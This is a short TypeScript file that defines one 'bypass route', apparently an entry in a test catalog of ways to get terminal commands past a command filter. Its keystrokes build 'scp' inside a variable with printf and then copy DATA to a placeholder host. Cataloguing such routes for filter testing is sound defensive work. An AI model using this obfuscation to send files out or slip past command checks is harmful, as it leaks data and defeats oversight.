import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by printf into a variable',
  source: 'thought of with the keys of the line editor',
  keys: ["printf -v x 's%s' cp\r", '$x DATA host:\r'],
};
